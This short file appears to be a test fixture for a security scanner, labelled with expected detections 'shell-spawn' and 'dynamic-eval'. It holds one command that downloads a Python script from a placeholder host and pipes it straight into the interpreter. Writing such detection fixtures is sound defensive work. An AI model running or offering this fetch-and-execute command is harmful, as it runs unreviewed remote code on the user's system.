# expect: shell-spawn,dynamic-eval
# source: DESIGN.md section 2: dynamic-eval
# technique: wget -O- | python3 -
wget -qO- https://x.example.net/p.py | python3 -
